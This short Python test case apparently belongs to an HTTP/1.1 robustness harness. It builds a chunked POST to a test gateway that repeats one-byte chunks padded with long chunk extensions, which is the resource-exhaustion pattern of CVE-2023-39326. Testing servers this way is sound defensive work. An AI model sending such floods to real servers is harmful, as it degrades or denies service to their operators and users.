"""Chunks of one byte, each with an extension.

The class of CVE-2023-39326; RFC 9112 §7.1.1. A small body that costs a lot of bytes: extensions are bounded, or the whole body is.
"""
LISTENER = "http1"
GROWTH_MIB = 16


def attack(enemy):
    begun = b"POST /open/x HTTP/1.1\r\nHost: gateway.test\r\nTransfer-Encoding: chunked\r\n\r\n"
    enemy.flood(begun, (b"1;e=" + b"x" * 200 + b"\r\nb\r\n") * 300)
